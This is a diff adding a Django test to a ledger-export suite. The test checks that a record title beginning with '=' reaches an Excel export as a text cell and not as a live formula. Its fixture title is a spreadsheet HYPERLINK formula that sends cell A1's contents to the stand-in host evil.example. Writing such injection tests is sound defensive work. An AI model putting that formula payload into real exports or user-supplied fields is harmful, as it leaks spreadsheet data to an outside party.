@@ -225,3 +225,13 @@ def test_a_user_without_an_organisation_cannot_export(client, world):
     assert "您没有所属单位，不能导出台账。" in response.content.decode()
     assert page_numbers(response) == []
     assert not AuditEvent.objects.filter(object_type="ledgers.export").exists()
+
+
+def test_a_title_that_looks_like_a_formula_is_exported_as_text(client, world):
+    """Formula injection: a user's text starting with "=" must reach Excel as text, never as a live formula."""
+    problem = drive_to(world, State.SIGNED, title='=HYPERLINK("http://evil.example/?x="&A1,"点击查看")')
+    client.force_login(world.officer)
+    response = client.get(EXPORT)
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    [cell] = [row[1] for row in book.active.iter_rows(min_row=4) if row[0].value == problem.number]
+    assert (cell.value, cell.data_type) == (problem.title, "s")
